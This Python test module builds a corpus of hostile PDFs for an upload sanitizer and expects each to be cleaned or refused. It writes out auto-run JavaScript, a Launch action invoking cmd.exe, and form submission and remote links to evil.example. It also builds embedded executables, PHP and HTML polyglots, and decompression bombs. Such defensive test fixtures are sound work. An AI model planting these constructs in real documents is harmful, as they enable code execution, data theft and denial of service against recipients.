"""Uploads for sick notes that are no PDF or more than one."""

import io
import struct
import zlib
from collections.abc import Iterator

from pypdf import PdfReader, PdfWriter

from cloud.tests.planning.hostile import (
    HTML,
    PAYLOAD,
    PHP,
    Hostile,
    jpeg_of,
    telling_exif,
    telling_profile,
    with_segment,
    zipped,
)
from cloud.tests.planning.plain_files import jpeg, pdf, picture, saved

JS = b"<< /S /JavaScript /JS (app.alert\\('" + PAYLOAD + b"'\\)) >>"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R "


def document(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    contents: bytes = b"",
    resources: bytes = b"",
    extra_objects: dict[int, bytes] | None = None,
    trailer: bytes = b"",
    version: bytes = b"1.7",
    gap: bytes = b"",
) -> bytes:
    """A document of one page; `catalog`, `page`, `resources` and `trailer` are added to those dictionaries."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R /Resources << "
        + resources
        + b" >> "
        + page
        + b" >>",
        4: stream(contents or b"0 0 10 10 re f"),
        **(extra_objects or {}),
    }
    return _assembled(objects, trailer, version, gap)


def stream(content: bytes, members: bytes = b"", length: int | None = None) -> bytes:
    size = len(content) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (size, members, content)


def _assembled(objects: dict[int, bytes], trailer: bytes = b"", version: bytes = b"1.7", gap: bytes = b"") -> bytes:
    out, places = b"%PDF-" + version + b"\n", {}
    for number, body in sorted(objects.items()):
        out += gap
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    lines = [b"%010d 00000 n " % places[n] if n in places else b"0000000000 65535 f " for n in range(size)]
    out += b"xref\n0 %d\n%s\n" % (size, b"\n".join(lines))
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def _updated(content: bytes, changed: dict[int, bytes]) -> bytes:
    """The document with a later revision of some of its objects."""
    previous = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
    out, lines = content, []
    for number, body in changed.items():
        lines.append(b"%d 1\n%010d 00000 n " % (number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n" + b"\n".join(lines) + b"\n"
    return out + b"trailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)


def _annotation(members: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 50 50] " + members + b" >>]"


def pdf_of_one() -> bytes:
    return document()


def encrypted(algorithm: str, password: str) -> bytes:
    """Returns a document that opens with the password; if that is empty, without one, and another is its owner's."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    writer.encrypt(password, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _packed(catalog: bytes) -> bytes:
    """Returns a document with its catalog in a stream of objects, and a stream for its table."""
    kids = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    packed = b"1 0 2 %d " % (len(catalog) + 1) + catalog + b" " + kids
    first = packed.index(catalog)
    out, places = b"%PDF-1.7\n", {}
    bodies = {
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>",
        5: stream(zlib.compress(packed), b"/Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % first),
    }
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = [(0, 0, 65535), (2, 5, 0), (2, 5, 1), (1, places[3], 0), (0, 0, 0), (1, places[5], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n" + stream(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _pdf_with_image(
    content: bytes,
    members: bytes,
    colours: bytes = b"/DeviceRGB",
    more: dict[int, bytes] | None = None,
    size: tuple[int, int] = (60, 40),
) -> bytes:
    picture_of = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace " % size
    image = stream(content, picture_of + colours + b" " + members)
    drawing = b"q 100 0 0 100 0 0 cm /Im Do Q"
    return document(contents=drawing, resources=b"/XObject << /Im 7 0 R >>", extra_objects={7: image, **(more or {})})


def hostile_pdfs() -> Iterator[Hostile]:
    for make in (_pdf_actions, _pdf_hidden, _pdf_polyglots, _pdf_bombs, _pdf_broken, _pdf_images):
        yield from make()


def _pdf_actions() -> Iterator[Hostile]:
    """Yields PDFs with an action, in every place that a reader searches."""
    file = b"<< /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>"
    embedded = {8: stream(b"MZ" + PAYLOAD, b"/Type /EmbeddedFile")}
    actions = {
        "javascript": JS,
        "launch": b"<< /S /Launch /F (cmd.exe) /P (" + PAYLOAD + b") >>",
        "launch with parameters": b"<< /S /Launch /Win << /F (cmd.exe) /P (" + PAYLOAD + b") >> >>",
        "submit": b"<< /S /SubmitForm /F (https://evil.example/" + PAYLOAD + b") >>",
        "import": b"<< /S /ImportData /F (" + PAYLOAD + b") >>",
        "elsewhere": b"<< /S /GoToR /F (//evil.example/" + PAYLOAD + b") /D [0 /Fit] >>",
        "into an attachment": b"<< /S /GoToE /T << /R /C /N (" + PAYLOAD + b") >> >>",
        "rendition": b"<< /S /Rendition /OP 0 /JS (" + PAYLOAD + b") >>",
        "movie": b"<< /S /Movie /T (" + PAYLOAD + b") >>",
        "sound": b"<< /S /Sound /Sound 8 0 R >>",
        "hide": b"<< /S /Hide /T (" + PAYLOAD + b") >>",
        "reset": b"<< /S /ResetForm >>",
        "layers": b"<< /S /SetOCGState /State [/ON 8 0 R] >>",
        "rich media": b"<< /S /RichMediaExecute >>",
        "chained": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>",
        "chained twice": b"<< /S /Named /N /NextPage /Next [<< /S /URI /URI (x) /Next " + JS + b" >>] >>",
        "javascript with escapes": b"<< /S /J#61vaScr#69pt /#4A#53 (" + PAYLOAD + b") >>",
        "javascript in hexadecimal": b"<< /S /JavaScript /JS <" + PAYLOAD.hex().encode() + b"> >>",
        "javascript in a stream": b"<< /S /JavaScript /JS 8 0 R >>",
    }
    for name, action in actions.items():
        more = {8: stream(PAYLOAD)}
        yield Hostile(
            f"pdf that opens with {name}", document(catalog=b"/OpenAction " + action, extra_objects=more), "CLEANED"
        )
        link = _annotation(b"/Subtype /Link /A " + action)
        yield Hostile(f"pdf with a link to {name}", document(page=link, extra_objects=more), "CLEANED")
    places = {
        "a referenced opening": {"catalog": b"/OpenAction 8 0 R", "extra_objects": {8: JS}},
        "the catalog's events": {"catalog": b"/AA << /WC " + JS + b" >>"},
        "the names": {"catalog": b"/Names << /JavaScript << /Names [(a) " + JS + b"] >> >>"},
        "the page's events": {"page": b"/AA << /O " + JS + b" >>"},
        "the events of a mark": {"page": _annotation(b"/Subtype /Widget /AA << /E " + JS + b" >>")},
        "the activation of a field": {"page": _annotation(b"/Subtype /Widget /FT /Btn /A " + JS)},
        "the fields": {"catalog": b"/AcroForm << /Fields [<< /T (a) /AA << /K " + JS + b" >> >>] >>"},
        "the order of calculation": {
            "catalog": b"/AcroForm << /CO [8 0 R] >>",
            "extra_objects": {8: b"<< /AA << /C " + JS + b" >> >>"},
        },
        "the outline": {"catalog": b"/Outlines << /First << /Title (a) /A " + JS + b" >> >>"},
        "the screen of a mark": {"page": _annotation(b"/Subtype /Screen /A " + JS)},
        "a tree of names": {"catalog": b"/Names << /Dests << /Kids [<< /Names [(a) << /JS (b) >>] >>] >> >>"},
        "what it is about": {"trailer": b"/Info << /Title << /JS (" + PAYLOAD + b") >> >>"},
        "a font": {"resources": b"/Font << /F1 << /Type /Font /AA " + JS + b" >> >>"},
        "the structure": {"catalog": b"/StructTreeRoot << /K << /S /P /A << /JS (a) >> >> >>"},
    }
    for name, parts in places.items():
        yield Hostile(f"pdf with a script in {name}", document(**parts), "CLEANED")  # type: ignore[arg-type]
    attachments = {
        "names": {"catalog": b"/Names << /EmbeddedFiles << /Names [(a) " + file + b"] >> >>"},
        "a mark": {"page": _annotation(b"/Subtype /FileAttachment /FS " + file)},
        "the catalog": {"catalog": b"/AF [" + file + b"]"},
        "a portfolio": {"catalog": b"/Collection << /View /D >>"},
        "the page": {"page": b"/AF [" + file + b"]"},
        "rich media": {"page": _annotation(b"/Subtype /RichMedia /RichMediaContent << /Assets 8 0 R >>")},
        "three dimensions": {"page": _annotation(b"/Subtype /3D /3DD 8 0 R")},
        "a movie": {"page": _annotation(b"/Subtype /Movie /Movie << /F (" + PAYLOAD + b") >>")},
        "a sound": {"page": _annotation(b"/Subtype /Sound /Sound 8 0 R")},
        "a form of another kind": {"catalog": b"/AcroForm << /XFA 8 0 R >>"},
        "parts of such a form": {"catalog": b"/AcroForm << /XFA [(template) 8 0 R] >>"},
        "a stream elsewhere": {
            "resources": b"/XObject << /X 9 0 R >>",
            "extra_objects": {9: stream(b"", b"/F (//evil.example/a)")},
        },
        "a page elsewhere": {
            "resources": b"/XObject << /X 9 0 R >>",
            "extra_objects": {9: stream(b"", b"/Subtype /Form /Ref << /F " + file + b" /Page 0 >>")},
        },
    }
    for name, parts in attachments.items():
        more = embedded | parts.pop("extra_objects", {})  # type: ignore[operator]
        yield Hostile(f"pdf with a file in {name}", document(extra_objects=more, **parts), "CLEANED")  # type: ignore[arg-type]
    postscript = {8: stream(PAYLOAD, b"/Type /XObject /Subtype /PS")}
    yield Hostile(
        "pdf with postscript", document(resources=b"/XObject << /X 8 0 R >>", extra_objects=postscript), "CLEANED"
    )
    yield Hostile(
        "pdf whose later revision has a script",
        _updated(pdf_of_one(), {1: _CATALOG + b"/OpenAction " + JS + b" >>"}),
        "CLEANED",
    )
    yield Hostile(
        "pdf with a script in a packed object",
        _packed(b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"),
        "CLEANED",
    )
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        yield Hostile(f"pdf that may not be changed by {algorithm}", encrypted(algorithm, ""), "CLEANED")
        yield Hostile(f"pdf encrypted by {algorithm}", encrypted(algorithm, "geheim"), "REFUSED")


def _pdf_hidden() -> Iterator[Hostile]:
    """Yields PDFs with harmless content that should still not be passed on."""
    literal = b"(" + PAYLOAD + b")"
    uri = b"<< /S /URI /URI (https://evil.example/" + PAYLOAD + b") >>"
    hidden = {
        "words about it": document(trailer=b"/Info << /Title " + literal + b" /Author " + literal + b" >>"),
        "an id": document(trailer=b"/ID [" + literal + literal + b"]"),
        "a trailer of its own": document(trailer=b"/Evil " + literal),
        "metadata": document(
            catalog=b"/Metadata 8 0 R", extra_objects={8: stream(PAYLOAD, b"/Type /Metadata /Subtype /XML")}
        ),
        "metadata of the page": document(page=b"/Metadata 8 0 R", extra_objects={8: stream(PAYLOAD)}),
        "pieces": document(page=b"/PieceInfo << /Evil << /Private " + literal + b" >> >>"),
        "a small picture": document(page=b"/Thumb 8 0 R", extra_objects={8: stream(PAYLOAD)}),
        "a member of the page": document(page=b"/Evil " + literal),
        "a member of the catalog": document(catalog=b"/Evil " + literal),
        "a member of a font": document(resources=b"/Font << /F1 << /Type /Font /Evil " + literal + b" >> >>"),
        "a string in a font": document(resources=b"/Font << /F1 << /Type /Font /BaseFont " + literal + b" >> >>"),
        "resources of its own": document(resources=b"/Evil " + literal),
        "properties": document(resources=b"/Properties << /P << /Evil " + literal + b" >> >>"),
        "an orphan": document(extra_objects={8: b"<< /OpenAction " + JS + b" >>"}),
        "an orphaned file": document(extra_objects={8: stream(PAYLOAD, b"/Type /EmbeddedFile")}),
        "comments": document(gap=b"% " + PAYLOAD + b"\n"),
        "space between objects": document(gap=b"\n" + PAYLOAD + b"\n"),
        "a link to an address": document(page=_annotation(b"/Subtype /Link /A " + uri)),
        "an outline of addresses": document(
            catalog=b"/Outlines << /First << /Title " + literal + b" /A " + uri + b" >> >>"
        ),
        "an address of the catalog": document(catalog=b"/URI << /Base " + literal + b" >>"),
        "a page to open at": document(
            catalog=b"/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /P " + literal + b" >>] >>"
        ),
        "an action that goes to a page": document(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", page=b"/Evil " + literal
        ),
        "a note": document(page=_annotation(b"/Subtype /Text /Contents " + literal)),
        "a popup": document(page=_annotation(b"/Subtype /Popup /Contents " + literal)),
        "a hidden stamp": document(
            page=_annotation(b"/Subtype /Stamp /F 2 /AP << /N 8 0 R >>"),
            extra_objects={8: stream(PAYLOAD, b"/BBox [0 0 1 1]")},
        ),
        "a signature": document(
            catalog=b"/AcroForm << /Fields [<< /FT /Sig /V << /Contents " + literal + b" >> >>] >>"
        ),
        "permissions": document(catalog=b"/Perms << /DocMDP << /Reference [] /Name " + literal + b" >> >>"),
        "a layer": document(
            catalog=b"/OCProperties << /OCGs [8 0 R] >>", extra_objects={8: b"<< /Type /OCG /Name " + literal + b" >>"}
        ),
        "structure": document(catalog=b"/StructTreeRoot << /K << /S /P /Alt " + literal + b" >> >>"),
        "a thread": document(catalog=b"/Threads [<< /I << /Title " + literal + b" >> >>]"),
        "a language": document(catalog=b"/Lang " + literal),
        "an intent of output": document(
            catalog=b"/OutputIntents [<< /Info " + literal + b" /DestOutputProfile 8 0 R >>]",
            extra_objects={8: stream(PAYLOAD, b"/N 3")},
        ),
        "an earlier revision": _updated(document(catalog=b"/OpenAction " + JS), {1: _CATALOG + b" >>"}),
        "a packed object": _packed(_CATALOG + b"/Evil " + literal + b" >>"),
        "a version that there is not": document(version=b"9.9" + PAYLOAD),
    }
    yield from (Hostile(f"pdf with {name}", content, "CLEANED") for name, content in hidden.items())


def _pdf_polyglots() -> Iterator[Hostile]:
    whole_pdf = pdf_of_one()
    for name, head in {
        "a gif's head": b"GIF89a",
        "php": PHP,
        "html": HTML + b"\n",
        "a line": b"\r\n",
        "a byte order mark": b"\xef\xbb\xbf",
        "1023 bytes": PAYLOAD + b"A" * (1023 - len(PAYLOAD)),
    }.items():
        yield Hostile(f"pdf behind {name}", head + whole_pdf, "CLEANED")
    yield Hostile(
        "pdf with html in its head", whole_pdf.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + HTML + b"\n", 1), "CLEANED"
    )
    yield Hostile(
        "pdf with php in its head", whole_pdf.replace(b"%PDF-1.7\n", b"%PDF-1.7 " + PHP + b"\n", 1), "CLEANED"
    )
    yield Hostile("pdf in a zip's comment", document(extra_objects={8: stream(zipped())}) + zipped(), "CLEANED")
    yield Hostile("pdf with an image as a head", document(extra_objects={8: stream(jpeg() + PAYLOAD)}), "CLEANED")


def _pdf_bombs() -> Iterator[Hostile]:
    flate, page = b"/Filter /FlateDecode", b"0 0 1 1 re f\n"
    bomb = zlib.compress(page * 12_000_000, 1)
    yield Hostile("pdf with a bomb as page", document(extra_objects={4: stream(bomb, flate)}), "REFUSED")
    twice = zlib.compress(bomb, 9)
    yield Hostile(
        "pdf with a bomb in a bomb",
        document(extra_objects={4: stream(twice, b"/Filter [/FlateDecode /FlateDecode]")}),
        "REFUSED",
    )
    lines = stream(zlib.compress(b"\n" * 90_000_000, 1), flate)
    many = dict.fromkeys(range(10, 18), lines)
    contents = b"[" + b" ".join(b"%d 0 R" % number for number in many) + b"]"
    one_by_one = _assembled(
        {
            1: _CATALOG + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /MediaBox [0 0 9 9] /Contents " + contents + b" >>",
            **many,
        }
    )
    yield Hostile("pdf with many small bombs", one_by_one, "REFUSED")
    repeated_kids = b"[" + b"4 0 R " * 900 + b"]"
    repeated = _assembled(
        {
            1: _CATALOG + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /MediaBox [0 0 9 9] /Contents " + repeated_kids + b" >>",
            4: stream(zlib.compress(b"\n" * 9_000_000, 1), flate),
        }
    )
    yield Hostile("pdf with one stream a thousand times", repeated, "REFUSED")
    yield Hostile(
        "pdf with runs",
        document(extra_objects={4: stream(b"\x81a" * 1_500_000, b"/Filter /RunLengthDecode")}),
        "CLEANED",
    )
    yield Hostile(
        "pdf with forty filters",
        document(extra_objects={4: stream(b">" * 100, b"/Filter [" + b"/ASCIIHexDecode " * 40 + b"]")}),
        "CLEANED",
    )
    yield Hostile("pdf with 21 pages", pdf(21), "REFUSED")
    kids = b"[" + b"3 0 R " * 100_000 + b"]"
    yield Hostile(
        "pdf with a page a hundred thousand times",
        document(extra_objects={2: b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>"}),
        "CLEANED",
    )
    doubled = {10 + n: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] >>" % (11 + n, 11 + n) for n in range(40)}
    yield Hostile(
        "pdf with a tree that doubles",
        document(extra_objects={2: b"<< /Type /Pages /Kids [10 0 R] >>", **doubled, 50: b"<< /Type /Page >>"}),
        "REFUSED",
    )
    yield Hostile(
        "pdf with a tree without an end",
        document(extra_objects={2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
        "REFUSED",
    )
    yield Hostile("pdf with arrays in arrays", document(page=b"/Evil " + b"[" * 20_000 + b"]" * 20_000), "CLEANED")
    yield Hostile(
        "pdf with dictionaries in dictionaries",
        document(page=b"/Evil " + b"<< /A " * 20_000 + PAYLOAD + b" >>" * 20_000),
        "CLEANED",
    )
    yield Hostile("pdf with a long array", document(page=b"/Evil [" + b"0 " * 200_000 + b"]"), "CLEANED")
    chain = {10 + n: b"<< /Type /Font /FontDescriptor %d 0 R >>" % (11 + n) for n in range(2000)}
    yield Hostile(
        "pdf with a chain of references",
        document(resources=b"/Font << /F 10 0 R >>", extra_objects={**chain, 2010: b"<< >>"}),
        "CLEANED",
    )
    nested = {
        10 + n: stream(b"/X Do", b"/Subtype /Form /Resources << /XObject << /X %d 0 R >> >>" % (11 + n))
        for n in range(300)
    }
    yield Hostile(
        "pdf with forms in forms",
        document(resources=b"/XObject << /X 10 0 R >>", extra_objects={**nested, 310: stream(b"")}),
        "CLEANED",
    )
    many_objects = {number: b"[%d 0 R]" % (number + 1) for number in range(10, 60_000)}
    yield Hostile(
        "pdf with sixty thousand objects",
        document(page=b"/Evil 10 0 R", extra_objects={**many_objects, 60_000: b"1"}),
        "CLEANED",
    )
    marks = b"/Annots [" + b"<< /Subtype /Stamp /Rect [0 0 1 1] >> " * 3000 + b"]"
    yield Hostile("pdf with three thousand marks", document(page=marks), "CLEANED")


def _pdf_broken() -> Iterator[Hostile]:
    whole_pdf = pdf_of_one()
    broken = {
        "no pages": document(extra_objects={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "a page that is none": document(extra_objects={3: b"(" + PAYLOAD + b")"}),
        "pages that are none": document(extra_objects={2: b"42"}),
        "a catalog that is none": document(extra_objects={1: b"[1 2 3]"}),
        "no catalog": whole_pdf.replace(b"/Root 1 0 R", b"").replace(b"/Type /Catalog /Pages 2 0 R", b""),
    }
    yield from (Hostile(f"pdf with {name}", content, "REFUSED") for name, content in broken.items())
    mended = {
        "a name of 4 kB": document(resources=b"/Font << /" + b"A" * 4096 + b" << /Type /Font >> >>"),
        "a stream that is not what it says": document(extra_objects={4: stream(PAYLOAD, b"/Filter /CCITTFaxDecode")}),
        "an unknown filter": document(extra_objects={4: stream(PAYLOAD, b"/Filter /EvilDecode")}),
        "a filter that asks for a key": document(
            extra_objects={4: stream(PAYLOAD, b"/Filter /Crypt /DecodeParms << /Name /Evil >>")}
        ),
        "objects that are each other": document(extra_objects={4: b"8 0 R", 8: b"4 0 R"}),
        "a wrong table": whole_pdf.replace(b"0000000009", b"0000000999"),
        "no table": whole_pdf.split(b"xref")[0],
        "a table that leads to itself": whole_pdf.replace(
            b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % whole_pdf.rindex(b"xref\n0")
        ),
        "a length that is a lie": document(extra_objects={4: stream(b"0 0 1 1 re f", length=10**12)}),
        "a negative length": document(extra_objects={4: stream(b"0 0 1 1 re f", length=-5)}),
        "a page without an end": document(
            page=b"/MediaBox [0 0 1e30 1e30] /Rotate 45 /UserUnit 1e30 /Evil (" + PAYLOAD + b")"
        ),
        "a page that is no rectangle": document(page=b"/MediaBox [(a) (b) (c) (d)] /Evil (" + PAYLOAD + b")"),
    }
    yield from (Hostile(f"pdf with {name}", content, "CLEANED") for name, content in mended.items())


def _pdf_images() -> Iterator[Hostile]:
    """Pictures in documents: files in a file."""
    exif = saved(picture(), "JPEG", exif=telling_exif(), icc_profile=telling_profile(), comment=PAYLOAD)
    yield Hostile("pdf with gps in its picture", _pdf_with_image(exif, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile("pdf with a tail of its picture", _pdf_with_image(jpeg() + PAYLOAD, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile(
        "pdf with data in its picture",
        _pdf_with_image(with_segment(jpeg(), 0xEF, PAYLOAD), b"/Filter /DCTDecode"),
        "CLEANED",
    )
    hexed = (with_segment(jpeg(), 0xFE, PAYLOAD)).hex().encode() + b">"
    yield Hostile(
        "pdf with a wrapped picture", _pdf_with_image(hexed, b"/Filter [/ASCIIHexDecode /DCTDecode]"), "CLEANED"
    )
    second = saved(picture(), "JPEG2000") + PAYLOAD
    yield Hostile("pdf with jpeg 2000", _pdf_with_image(second, b"/Filter /JPXDecode"), "CLEANED")
    pixels = picture().tobytes()
    profile = {8: stream(telling_profile() + PAYLOAD, b"/N 3 /Alternate /DeviceRGB")}
    coloured = _pdf_with_image(zlib.compress(pixels), b"/Filter /FlateDecode", b"[/ICCBased 8 0 R]", profile)
    yield Hostile("pdf with a profile", coloured, "CLEANED")
    words = b"/Filter /FlateDecode /Metadata 8 0 R /Evil (" + PAYLOAD + b")"
    yield Hostile(
        "pdf with words about its picture",
        _pdf_with_image(zlib.compress(pixels), words, more={8: stream(PAYLOAD)}),
        "CLEANED",
    )
    yield Hostile(
        "pdf with a tail of its stream",
        _pdf_with_image(zlib.compress(pixels) + PAYLOAD, b"/Filter /FlateDecode"),
        "CLEANED",
    )
    yield Hostile("pdf with html for a picture", _pdf_with_image(HTML, b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile("pdf with jbig2", _pdf_with_image(PAYLOAD, b"/Filter /JBIG2Decode"), "CLEANED")
    yield Hostile("pdf with a broken jpeg 2000", _pdf_with_image(PAYLOAD, b"/Filter /JPXDecode"), "CLEANED")
    yield Hostile(
        "pdf with a large picture", _pdf_with_image(b"", b"/Filter /FlateDecode", size=(50_000, 50_000)), "CLEANED"
    )
    yield Hostile("pdf with a large jpeg", _pdf_with_image(jpeg_of(20_000, 20_000), b"/Filter /DCTDecode"), "CLEANED")
    yield Hostile(
        "pdf with a fax that is none",
        _pdf_with_image(PAYLOAD, b"/Filter /CCITTFaxDecode /DecodeParms << /K 4 >>"),
        "CLEANED",
    )
